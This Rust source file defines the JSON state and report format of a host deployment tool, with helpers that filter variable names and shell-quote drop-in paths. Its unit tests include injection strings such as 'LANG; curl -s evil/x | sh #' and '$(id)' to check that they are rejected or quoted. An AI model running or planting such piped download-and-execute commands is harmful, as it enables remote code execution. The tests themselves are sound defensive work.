//! `state.json` and the host's report: what a host believes about its services. Both have the same form; a
//! person reads it with `cat`, a script with `jq`. It never holds a secret. The form is a contract: fixtures
//! of every published version are under tests/fixtures/.

use crate::clock::Timestamp;
use crate::error::Exit;
use crate::files;
use crate::names::{HostName, ServiceName, StorePath, is_variable};
pub use crate::systemd::Exposure;
use serde::{Deserialize, Deserializer, Serialize};
use std::collections::{BTreeMap, BTreeSet};
use std::fmt;

/// The version of the format that this program writes.
pub const STATE_VERSION: u64 = 1;

/// What a host believes.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct State {
    /// [`STATE_VERSION`].
    pub version: u64,
    /// The host.
    pub host: HostName,
    /// The version of the program that wrote this.
    #[serde(default)]
    pub deployer: String,
    /// The serial of the manifest that the last pass worked from.
    pub serial: Option<u64>,
    /// When that manifest was written.
    pub generation: Option<Timestamp>,
    /// When a pass last wrote this. A pass that finds nothing to do leaves it alone for up to
    /// [`REPORT_EVERY_SEC`].
    pub checked_at: Timestamp,
    /// When a pass last changed something on the host.
    pub changed_at: Option<Timestamp>,
    /// Why the manifest in the bucket could not be used; the pass then worked from the last good one.
    #[serde(default)]
    pub manifest_error: Option<String>,
    /// Caddy's route.
    #[serde(default)]
    pub route: RouteState,
    /// Whether this reached the bucket; if not, the next pass tries again.
    #[serde(default)]
    pub reported: bool,
    /// The store that the host obeys ([`crate::store::Store::identity`]); null: written by a program that did not
    /// say.
    #[serde(default)]
    pub store: Option<String>,
    /// The hash of the text of the manifest that the last pass worked from.
    #[serde(default)]
    pub manifest_hash: Option<String>,
    /// Which machine wrote this.
    #[serde(default)]
    pub machine: Option<Machine>,
    /// Another machine that reports under the same name.
    #[serde(default)]
    pub other_machine: Option<OtherMachine>,
    /// The names of the variables that somebody gave to every service that systemd starts (`systemctl
    /// set-environment`), as they were when something was last found to be started.
    #[serde(default, skip_serializing_if = "Vec::is_empty", deserialize_with = "variables")]
    pub manager_environment: Vec<String>,
    /// Why the last pass ended without having done its work; null: it did. What else is in here is then what the
    /// pass before left.
    #[serde(default)]
    pub last_error: Option<LastError>,
    /// Services whose candidate still ends its last connections: the pass is under way, and all that is in here is
    /// settled but for that. Of a pass that was ended there, the next removes them.
    #[serde(default, skip_serializing_if = "BTreeSet::is_empty")]
    pub draining: BTreeSet<ServiceName>,
    /// The services of this host, by name.
    pub services: BTreeMap<ServiceName, ServiceState>,
}

/// Which machine it is: two of them may have been given one `host` name.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Machine {
    /// Derived from /etc/machine-id, which itself is confidential (machine-id(5)).
    pub id: String,
    /// Its own host name, for people.
    #[serde(default)]
    pub name: String,
}

impl fmt::Display for Machine {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let start: String = self.id.chars().take(8).collect();
        if self.name.is_empty() { write!(f, "{start}") } else { write!(f, "{} ({start})", self.name) }
    }
}

/// A machine whose report was found where this one's was to be written.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct OtherMachine {
    /// Which.
    pub machine: Machine,
    /// When it wrote that report.
    pub reported_at: Timestamp,
    /// Whether it did so after this machine had reported: then both are at work. Otherwise this one may have
    /// taken its place.
    #[serde(default)]
    pub came_back: bool,
}

impl OtherMachine {
    /// What is wrong, with both by name, and how it is settled.
    pub fn text(&self, host: &HostName, this: &Machine) -> String {
        let OtherMachine { machine, reported_at, came_back } = self;
        let next = match came_back {
            true => "give one of them another name ('host' in its /etc/omni-deploy/config.json)",
            false => {
                "if one of them replaced the other, all is well, and the next report does not say so any more; else give one of \
                 them another name ('host' in its /etc/omni-deploy/config.json)"
            }
        };
        format!("two machines report as host '{host}': {this}, and {machine} at {reported_at}; {next}")
    }
}

/// Why a pass ended without having done its work.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct LastError {
    /// The object, the cause and the next move.
    pub reason: String,
    /// Since when passes end with it.
    pub since: Timestamp,
}

/// How long a report that has nothing new may be left alone, in seconds.
pub const REPORT_EVERY_SEC: i64 = 30 * 60;

/// A report older than this, in seconds, means that whoever wrote it fell silent: two refreshes were missed.
pub const SILENT_SEC: i64 = 2 * REPORT_EVERY_SEC + 10 * 60;

/// What a host believes about one service.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct ServiceState {
    /// Its name again, for scripts that select by it.
    pub name: ServiceName,
    /// What runs; null when nothing does.
    pub store_path: Option<StorePath>,
    /// How it stands.
    pub status: ServicePhase,
    /// Since when the status and the path are these.
    pub since: Timestamp,
    /// The closures before this one that are still on the host, newest first.
    #[serde(default)]
    pub previous: Vec<StorePath>,
    /// Why it is not as the manifest says, if it is not.
    #[serde(default)]
    pub failure: Option<FailureRecord>,
    /// Its secrets file was changed after it started: a restart picks that up.
    #[serde(default)]
    pub secrets_changed: bool,
    /// How much its unit leaves open, as systemd rates it, when it was started; null when nothing runs or systemd
    /// did not say.
    #[serde(default)]
    pub exposure: Option<Exposure>,
    /// Drop-ins of somebody else that change its unit, or that its process was started with.
    #[serde(default)]
    pub drop_ins: Vec<String>,
    /// The invocation of its unit that a pass has found to run what its unit says, with nobody's drop-ins.
    #[serde(default)]
    pub invocation: Option<String>,
    /// It is held at `storePath` by `deployer rollback`, since then.
    #[serde(default)]
    pub pinned_since: Option<Timestamp>,
    /// It is stopped by `deployer pause` until then; null with status `stopped`: until `deployer resume`.
    #[serde(default)]
    pub paused_until: Option<Timestamp>,
    /// The digest of the manifest's entry that the rest was decided by ([`crate::manifest::entry`]); null: not known.
    #[serde(default)]
    pub entry: Option<String>,
    /// It is not in the manifest any more, and not gone yet.
    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
    pub removing: bool,
}

impl ServiceState {
    /// What a person should look at though it may run what the manifest names, and what to type on the host.
    pub fn attention(&self) -> Option<String> {
        attention(&self.name, &self.drop_ins)
    }
}

/// Names of variables become part of a command that somebody types. What is none is left out: systemd has not said it.
fn variables<'de, D: Deserializer<'de>>(d: D) -> Result<Vec<String>, D::Error> {
    let mut names = Vec::<String>::deserialize(d)?;
    names.retain(|name| is_variable(name));
    Ok(names)
}

/// A path as it is shown: one with characters that mean something to a shell is quoted, so that nobody types it
/// unawares.
fn shown(path: &str) -> String {
    match is_plain(path) {
        true => path.to_string(),
        false => format!("{path:?}"),
    }
}

fn is_plain(path: &str) -> bool {
    path.bytes().all(|b| b.is_ascii_alphanumeric() || b"/._-@:+,%".contains(&b))
}

/// The same, for a service that has these drop-ins.
pub fn attention(name: &ServiceName, drop_ins: &[String]) -> Option<String> {
    if drop_ins.is_empty() {
        return None;
    }
    let own = format!("/{}.d/", name.unit());
    // systemctl(1), "revert": what `edit` and `set-property` made.
    let edited = |path: &String| {
        path.contains(&own)
            && ["/etc/systemd/", "/run/systemd/system"].iter().any(|dir| path.starts_with(dir))
            && is_plain(path)
    };
    let files = drop_ins.iter().map(|path| shown(path)).collect::<Vec<_>>().join(", ");
    let start = "sudo systemctl start deployer";
    let next = match drop_ins.iter().all(edited) {
        true => format!("'sudo systemctl revert {name} && {start}' takes that back"),
        false => format!("remove that, then '{start}'"),
    };
    Some(format!("needs attention: its unit is changed by {files}; {next}"))
}

/// How a service stands.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum ServicePhase {
    /// It runs what the manifest names, and is well.
    Running,
    /// What the manifest names could not be put in place, or is down. `storePath` tells which.
    Failed,
    /// The manifest names a placeholder.
    Waiting,
    /// What the manifest names was tried and rejected; it is not tried again by itself.
    Rejected,
    /// It was stopped on purpose.
    Stopped,
}

/// The word in the formats.
impl fmt::Display for ServicePhase {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        self.serialize(f)
    }
}

/// Why a service is not as the manifest says.
#[derive(Debug, Clone, PartialEq, Default, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct FailureRecord {
    /// The object, the cause and the next move.
    pub reason: String,
    /// The path that should run.
    pub attempted: Option<StorePath>,
    /// When it was rejected, found, or last could not be fetched.
    pub at: Timestamp,
    /// The last lines of its journal, oldest first. Not in the file or the report, which are not root's alone
    /// ([`super::lines`]).
    #[serde(default)]
    pub journal: Vec<String>,
    /// How many passes in a row could not fetch it.
    #[serde(default)]
    pub attempts: u32,
    /// What was rejected, as a hash of everything that went into the attempt: another hash is a new attempt.
    #[serde(default)]
    pub inputs: Option<String>,
    /// Not the release was at fault: somebody else had its port. It is tried again when nobody has it any more.
    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
    pub kept_out: bool,
}

impl FailureRecord {
    /// A failure of which nothing else is known.
    pub fn new(reason: String, attempted: Option<StorePath>, at: Timestamp) -> Self {
        FailureRecord { reason, attempted, at, ..FailureRecord::default() }
    }
}

/// How Caddy's route stands.
#[derive(Debug, Clone, PartialEq, Default, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct RouteState {
    /// `none` (no service has http), `current`, or `pending`.
    pub status: RouteStatus,
    /// Why it is pending.
    #[serde(default)]
    pub reason: Option<String>,
}

/// How Caddy's route stands, in a word.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum RouteStatus {
    /// No service of this host is reached over HTTP.
    #[default]
    None,
    /// Caddy has the route that the services need.
    Current,
    /// Caddy could not be given the route; the next pass tries again.
    Pending,
}

impl ServiceState {
    /// A service of which nothing is known but this.
    pub fn new(name: ServiceName, status: ServicePhase, since: Timestamp) -> Self {
        ServiceState {
            name,
            store_path: None,
            status,
            since,
            previous: Vec::new(),
            failure: None,
            secrets_changed: false,
            exposure: None,
            drop_ins: Vec::new(),
            invocation: None,
            pinned_since: None,
            paused_until: None,
            entry: None,
            removing: false,
        }
    }
}

impl State {
    /// The state of a host that never finished a pass.
    pub fn new(host: HostName, now: Timestamp) -> Self {
        State {
            version: STATE_VERSION,
            host,
            deployer: env!("CARGO_PKG_VERSION").into(),
            serial: None,
            generation: None,
            checked_at: now,
            changed_at: None,
            manifest_error: None,
            route: RouteState::default(),
            reported: false,
            store: None,
            manifest_hash: None,
            machine: None,
            other_machine: None,
            manager_environment: Vec::new(),
            last_error: None,
            draining: BTreeSet::new(),
            services: BTreeMap::new(),
        }
    }

    /// Reads the form; the error is for people.
    pub fn parse(bytes: &[u8]) -> Result<Self, String> {
        files::versioned(bytes, STATE_VERSION).map_err(|e| e.to_string())
    }

    /// Whether two states differ in nothing but when they were written, and when something was last changed.
    pub fn says_the_same(&self, other: &State) -> bool {
        let (checked_at, changed_at) = (other.checked_at, other.changed_at);
        State { checked_at, changed_at, ..self.clone() } == *other
    }

    /// Whether this is why the last pass ended.
    pub fn failed_with(&self, reason: &str) -> bool {
        self.last_error.as_ref().is_some_and(|e| e.reason == reason)
    }

    /// The exit code it stands for: 4 when something is down, 3 when something is not as it should be.
    pub fn exit_code(&self) -> Exit {
        let off = |s: &&ServiceState| matches!(s.status, ServicePhase::Failed | ServicePhase::Rejected);
        let looked_at = |s: &ServiceState| s.removing || !s.drop_ins.is_empty();
        if self.services.values().filter(off).any(|s| s.store_path.is_none() && !s.removing) {
            Exit::Down
        } else if self.services.values().any(|s| off(&s) || looked_at(s))
            || !self.manager_environment.is_empty()
        {
            Exit::Degraded
        } else {
            Exit::Done
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_state_of_a_newer_form_says_so_whatever_is_in_it() {
        let text = include_str!("../../tests/fixtures/state-v1.json");
        let newer = |text: String| State::parse(text.as_bytes()).unwrap_err();
        let version = text.replace("\"version\": 1,", "\"version\": 2,");
        assert_eq!(newer(version.clone()), "it has version 2, this program reads up to 1");
        let other = version.replace("\"host\": \"biz\"", "\"host\": {\"name\": \"biz\"}");
        assert_eq!(newer(other.clone()), "it has version 2, this program reads up to 1");
        assert!(newer(other.replace("\"version\": 2,", "\"version\": 1,")).contains("line"));
        assert!(newer(text.replacen('{', "", 1)).contains("line"));
    }

    #[test]
    fn only_times_of_writing_may_differ_between_states_that_say_the_same() {
        let text = include_str!("../../tests/fixtures/state-v1.json");
        let state = State::parse(text.as_bytes()).unwrap();
        let later =
            State { checked_at: Timestamp(state.checked_at.0 + 60), changed_at: None, ..state.clone() };
        assert!(state.says_the_same(&later) && later.says_the_same(&state));
        let mut other = state.clone();
        other.services.values_mut().next().unwrap().secrets_changed = true;
        let other = [
            other,
            State { serial: None, ..state.clone() },
            State { reported: !state.reported, ..state.clone() },
            State { manifest_hash: Some("x".into()), ..state.clone() },
            State { route: RouteState::default(), ..state.clone() },
        ];
        assert!(other.iter().all(|other| !state.says_the_same(other)));
    }

    #[test]
    fn of_what_systemd_gives_to_all_only_names_of_variables_are_read() {
        let mut state = State::new(HostName::parse("biz").unwrap(), Timestamp(1_800_000_000));
        let odd = ["LANG; curl -s evil/x | sh #", "A B", "1A", "", "A\n", "-x", "$(id)"];
        let names = ["LD_PRELOAD"].iter().chain(&odd).chain(&["_x1"]);
        state.manager_environment = names.map(ToString::to_string).collect();
        let read = State::parse(&serde_json::to_vec(&state).unwrap()).unwrap();
        assert_eq!(read.manager_environment, ["LD_PRELOAD", "_x1"]);
    }

    #[test]
    fn a_drop_in_with_a_name_that_a_shell_would_run_is_shown_quoted_and_not_reverted() {
        let name = ServiceName::parse("web").unwrap();
        let own = "/etc/systemd/system/web.service.d/override.conf".to_string();
        let said = attention(&name, std::slice::from_ref(&own)).unwrap();
        assert!(said.contains("'sudo systemctl revert web && sudo systemctl start deployer'"), "{said}");
        let odd = "/etc/systemd/system/web.service.d/x.conf; curl evil | sh \"'".to_string();
        let said = attention(&name, &[own.clone(), odd.clone()]).unwrap();
        assert!(said.contains(&format!("{own}, {odd:?}; remove that, then")), "{said}");
        assert!(!said.contains("revert"), "{said}");
    }
}
